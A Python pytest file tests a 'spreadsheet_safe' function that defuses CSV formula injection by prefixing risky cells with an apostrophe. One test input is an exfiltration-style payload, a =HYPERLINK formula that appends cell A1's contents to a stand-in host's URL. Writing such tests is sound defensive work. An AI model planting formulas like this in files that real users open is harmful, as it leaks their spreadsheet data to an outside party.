"""Spreadsheet-safe cells: formulas become text, everything else (numbers included) is left as it is."""

from __future__ import annotations

import pytest

from services.csv_safe import spreadsheet_safe


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://example.invalid/?"&A1)', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Paris", "a = b", "", " =1", -3, -2.5, 0, None, True])
def test_other_values_are_unchanged(value: object) -> None:
    assert spreadsheet_safe(value) == value
